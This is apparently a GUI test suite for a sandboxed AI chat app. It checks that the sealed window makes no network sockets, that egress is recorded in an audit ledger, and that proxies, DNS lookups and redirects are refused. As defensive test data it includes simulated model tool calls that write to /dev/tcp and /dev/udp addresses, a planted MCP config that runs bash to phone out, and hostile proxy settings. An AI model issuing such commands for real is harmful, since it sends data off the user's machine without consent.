# SPDX-License-Identifier: GPL-3.0-or-later
"""The sealed window: it makes no socket of a network, talks to its model all the same, and shows what left this machine."""

import http.server
import os
import pathlib
import re
import shutil
import signal
import subprocess
import threading

import chat
import desktop
import ledger
import namespaces
import tap
import weston
from enclave_window import EnclaveWindow
from journey import project
from room import RoomWindow, socket_to
from scripted_server import ScriptedServer, calls, says
from tap import case

NETWORK = re.compile(r"^(\d+)<([^>]*)> socket\((AF_(?!UNIX)\w+)")
WAYLAND = "enclave-sealed"


class TracedWindow(EnclaveWindow):
    """strace writes down the sockets of the window and of all that it starts, each with the name of who made it."""

    def __init__(self, *arguments, **more):
        self.trace = None
        super().__init__(*arguments, program="strace", **more)

    def _prepare_home(self):
        super()._prepare_home()
        self.trace = self.home / "trace"
        # -D: the program itself is the child, and strace its descendant.
        self.arguments = ["-D", "-f", "-qq", "-Y", "-e", "trace=socket", "-e", "signal=none", "-o", str(self.trace),
                          os.environ["ENCLAVE_PROGRAM"], *self.arguments]

    def leftovers(self):
        return [line for line in super().leftovers() if not line.startswith("strace ")]

    def sockets(self):
        """(who, family) of each socket that is not one of the file system."""
        found = (NETWORK.match(line) for line in self.trace.read_text(errors="replace").splitlines())
        return {(match[2], match[3]) for match in found if match}


class WaylandTracedWindow(TracedWindow):
    def environment(self):
        environment = super().environment()
        environment.pop("DISPLAY", None)
        return {**environment, "GDK_BACKEND": "wayland", "WAYLAND_DISPLAY": WAYLAND}

    def _await_window(self):
        def ready():
            self._application = self._find_application()
            return self._application is not None and self.frame() is not None

        self.wait_for(ready, timeout=60, what="a window")

    def _photograph_failure(self):
        tap.note("stderr: " + self.stderr()[-2000:])


def converse(window):
    window.find(role="label", name="test-model", timeout=60)
    chat.say(window, "Say something")
    chat.wait_words(window, "Said.", timeout=60)


def needs_strace():
    if shutil.which("strace") is None:
        raise tap.Skip("strace is not installed")
    if subprocess.run(["strace", "-qq", "-Y", "-e", "trace=none", "true"], check=False, capture_output=True).returncode != 0:
        raise tap.Skip("processes can't be traced here")


@case("no socket of a network in the sealed window; the unsealed one has some")
def traced():
    needs_strace()
    for arguments, sealed in (((), True), (("--unsealed",), False)):
        with ScriptedServer([says("Said."), says("Said.")]) as server, project() as folder, \
                TracedWindow(*arguments, folder, settings=server.settings(), environment={"IM_CONFIG_PHASE": "1"}) as window:
            converse(window)
            found = window.sockets()
            families = {family for _, family in found}
            who = {name for name, _ in found}
            tap.check("AF_INET" in families, f"nobody made a socket of the network, so nothing was traced: {found}")
            if sealed:
                # Each command's box brings up its own loopback; no command runs here but the question what the system allows.
                tap.check(who <= {"enclave-net", "enclave-confine"}, f"others made sockets: {found}")
                tap.check(all(family in ("AF_INET", "AF_INET6") for name, family in found if name == "enclave-net"), f"{found}")
            else:
                tap.check(any(not name.startswith(("enclave-net", "enclave-confine")) for name in who), f"the control: {found}")


@case("the same on Wayland")
def wayland():
    needs_strace()
    with weston.running(WAYLAND), ScriptedServer([says("Said.")]) as server, project() as folder, \
            WaylandTracedWindow(folder, settings=server.settings()) as window:
        window.find(role="label", name="test-model", timeout=60)
        found = window.sockets()
        tap.check(("enclave-net", "AF_INET") in found, f"nothing was traced: {found}")
        tap.check({name for name, _ in found} <= {"enclave-net", "enclave-confine"}, f"others made sockets: {found}")


def helper(window, name):
    """The process of a helper: a child of the window."""
    children = pathlib.Path(f"/proc/{window.process.pid}/task/{window.process.pid}/children").read_text().split()
    found = [int(child) for child in children if pathlib.Path(f"/proc/{child}/comm").read_text().strip() == name]
    tap.check(len(found) == 1, f"{name}: {found}")
    return found[0]


def show_page(window):
    window.press("Main menu")
    window.press("What Left This Machine")
    window.find(role="label", name="Nothing left this machine")


def page_text(window):
    return window.all_text()


@case("the page: what was asked for, by whom, and how that is known")
def page():
    with ScriptedServer([calls("run_command", command="echo x >/dev/tcp/192.0.2.1/80 || true"), says("Said."), says("Said.")]) as server, \
            project() as folder, EnclaveWindow(folder, settings=server.settings(), size=(1280, 800)) as window:
        window.find(role="label", name="test-model", timeout=30)
        chat.say(window, "Say something")
        chat.wait_question(window, "Runs in")
        chat.answer(window, "Allow")
        chat.wait_words(window, "Said.", timeout=30)
        show_page(window)
        window.wait_for(lambda: f"127.0.0.1:{server.port}" in page_text(window), what="the server on the page")
        text = page_text(window)
        for part in ("model server", "This machine", "Any other address", "0 bytes since", "Sealed: Enclave itself"):
            tap.contains(text, part, "the page")
        window.screenshot(tap.picture_name(""))
        window.resize(760, 640)
        window.screenshot(tap.picture_name("narrow"))
        window.resize(1280, 800)

        # What the page says is what the ledger says, by a second implementation of its chain.
        path = window.home / "state/enclave/egress/audit.jsonl"
        records = ledger.connections(path)
        tap.equal(path.stat().st_mode & 0o777, 0o600, "the ledger's mode")
        tap.check(ledger.anchored(ledger.verify(path), window.home / "config"), "the ledger has no anchor")
        opened = [record for record in records if record["event"] == "opened"]
        tap.check(any(record["endpoint"] == f"http://127.0.0.1:{server.port}" and record["mode"] == "sealed" for record in opened),
                  f"the server is not in the ledger: {records}")
        tap.check(all(record["local"] for record in opened), f"another machine was reached: {opened}")


HOSTILE = {"http_proxy": "http://192.0.2.99:3128", "https_proxy": "http://192.0.2.99:3128", "all_proxy": "socks://192.0.2.99:1080",
           "GIO_USE_PROXY_RESOLVER": "gnome", "GIO_USE_NETWORK_MONITOR": "netlink"}
PHONING = '{"mcpServers": {"phone": {"command": "bash", "args": ["-c", "echo x >/dev/udp/192.0.2.5/53; getent hosts phone.example"]}}}'


@case("a conversation where every packet is counted, with hostile settings: none for another address, no name asked for")
def room():
    if reason := namespaces.missing():
        raise tap.Skip(reason)
    images = "Said. ![a](http://192.0.2.66/a.png) <img src='https://tracker.example/b.png'> [c](https://example.com/)"
    replies = [calls("run_command", command="echo x >/dev/udp/192.0.2.1/53; getent hosts agent.example; true"),
               calls("edit_file", path="README.md", old_text="# Ringlog", new_text="# Ring"), says(images)]
    with ScriptedServer(replies) as server, socket_to(server.port) as path, project(_dot_mcp_dot_json=PHONING) as folder, \
            RoomWindow(folder, settings={"servers": f"['unix:{path}', 'http://example.com:80', 'http://192.0.2.1:11434', "
                                                    "'http://127.0.0.1.nip.io:11434']", "allowed-networks": "['192.0.2.0/24']"},
                       environment=HOSTILE, size=(1280, 800)) as window:
        window.find(role="label", name="test-model", timeout=60)
        chat.say(window, "Say something")
        chat.wait_question(window, "Runs in")
        chat.answer(window, "Allow")
        chat.wait_words(window, "Said.", timeout=60)
        # Nobody answers at that address: the attempt is written down when it has failed.
        window.wait_for(lambda: any(record["endpoint"] == "http://192.0.2.1:11434"
                                    for record in ledger.connections(window.home / "state/enclave/egress/audit.jsonl")),
                        timeout=60, what="the allowed address in the ledger")
        window.key("ctrl+q")
        window.wait_for(lambda: window.stdout().strip(), timeout=60, what="the report")
        counted = window.report()["counted"]
        left = [one for one in counted["destinations"] if not (one["address"] == "192.0.2.1" and one["port"] == 11434)]
        tap.equal(left, [], "what was sent")
        tap.equal(counted["dns_queries"], 0, "questions to name servers")
        # The one address of those that the settings allow was tried, and is in the ledger; the names were not looked up.
        records = ledger.connections(window.home / "state/enclave/egress/audit.jsonl")
        asked = {(record["endpoint"], record["event"]) for record in records}
        tap.check(("http://192.0.2.1:11434", "failed") in asked, f"the allowed address is not in the ledger: {asked}")
        tap.check(any("example.com" in endpoint and event == "refused" for endpoint, event in asked), f"the name is not: {asked}")
        tap.check(any("nip.io" in endpoint and event == "refused" for endpoint, event in asked), f"the rebinding name is not: {asked}")


@case("helpers that die: the one that connects comes back, the other is told of")
def deaths():
    with ScriptedServer([says("Said."), says("Said again.")]) as server, project() as folder, \
            EnclaveWindow(folder, settings=server.settings(), size=(1280, 800)) as window:
        converse(window)
        before = helper(window, "enclave-net")
        os.kill(before, signal.SIGKILL)
        window.wait_for(lambda: not os.path.exists(f"/proc/{before}/exe") or
                        pathlib.Path(f"/proc/{before}/stat").read_text().split()[2] == "Z", what="its end")
        chat.say(window, "And again")
        chat.wait_words(window, "Said again.", timeout=30)
        tap.check(helper(window, "enclave-net") != before, "it is the same")

        os.kill(helper(window, "enclave-shell"), signal.SIGKILL)
        show_page(window)
        window.wait_text("Programs can’t be started")
        window.screenshot(tap.picture_name(""))


@case("unsealed: the same addresses, and the window says so")
def unsealed():
    with ScriptedServer([says("Said.")]) as server, project() as folder, \
            EnclaveWindow(folder, settings={**server.settings(), "sealed": "false"}, size=(1280, 800)) as window:
        converse(window)
        show_page(window)
        window.wait_text("Not sealed")
        window.wait_text("it is switched off")
        window.wait_for(lambda: f"127.0.0.1:{server.port}" in page_text(window), what="the server on the page")
        window.screenshot(tap.picture_name(""))


@case("unsealed: what commands were granted is not counted, and the page does not say that nothing left")
def uncounted():
    command = calls("run_command", command="echo x >/dev/tcp/192.0.2.1/80 || true", network=["192.0.2.1:80"])
    with ScriptedServer([command, says("Said.")]) as server, project() as folder, \
            EnclaveWindow(folder, settings={**server.settings(), "sealed": "false", "allowed-networks": "['192.0.2.0/24']"},
                          size=(1280, 800)) as window:
        window.find(role="label", name="test-model", timeout=30)
        chat.say(window, "Say something")
        chat.wait_question(window, "May reach")
        chat.answer(window, "Allow")
        window.press("Main menu")
        window.press("What Left This Machine")
        window.find(role="label", name="Not everything is counted", timeout=20)
        text = page_text(window)
        tap.check("Nothing left" not in text, text)
        for part in ("192.0.2.1:80", "granted, bytes not counted", "1 grant.", "Other machine"):
            tap.contains(text, part, "the page")
        window.screenshot(tap.picture_name(""))
        window.resize(760, 640)
        window.screenshot(tap.picture_name("narrow"))


class Redirecting(http.server.BaseHTTPRequestHandler):
    """Sends whoever asks to somewhere else, always the same."""

    def do_GET(self):  # pylint: disable=invalid-name
        self.server.asked += 1
        self.send_response(302)
        self.send_header("Location", "http://192.0.2.1/")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *unused):  # pylint: disable=arguments-differ
        pass


@case("unsealed: what was only counted is written when the window ends")
def counted_to_the_end():
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Redirecting) as server, project() as folder:
        server.asked = 0
        threading.Thread(target=server.serve_forever, daemon=True).start()
        settings = {"discover-servers": "false", "servers": f"['http://127.0.0.1:{server.server_port}']", "sealed": "false"}
        with EnclaveWindow(folder, settings=settings, size=(1280, 800)) as window:
            window.wait_for(lambda: server.asked >= 2, timeout=30, what="several requests")
            window.press("Main menu")
            window.press("What Left This Machine")
            window.wait_text("redirects are refused", timeout=30)
            tap.equal(window.quit(), 0, "the end")
            records = ledger.connections(window.home / "state/enclave/egress/audit.jsonl")
            refused = [record for record in records if record["event"] == "refused"]
            tap.equal(sum(record.get("times", 1) for record in refused), server.asked, "the refusals of the ledger")
        server.shutdown()


@case("the user's terminals keep their network, unless they are sealed too")
def terminals():
    for sealed in (False, True):
        with ScriptedServer([]) as server, project() as folder, \
                EnclaveWindow(folder, settings={**server.settings(), "seal-terminals": "true" if sealed else "false"},
                              size=(1280, 800)) as window:
            window.find(role="label", name="test-model", timeout=30)
            window.key("ctrl+3")
            window.wait_for(lambda: chat.terminal_text(window).strip(), what="a prompt")
            result = folder / "result"
            window.type(f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{server.port}' && echo open >{result} || echo shut >{result}\n")
            window.wait_for(lambda: result.exists() and result.read_text().strip(), what="the answer of the terminal")
            tap.equal(result.read_text().strip(), "shut" if sealed else "open", "the terminal's network")
            if sealed:
                show_page(window)
                window.press("Check now")
                window.wait_text("The terminals of this Enclave are sealed", timeout=30)
                window.screenshot(tap.picture_name("check"))


reason = desktop.missing()
if reason:
    tap.skip_all(reason)
tap.run()
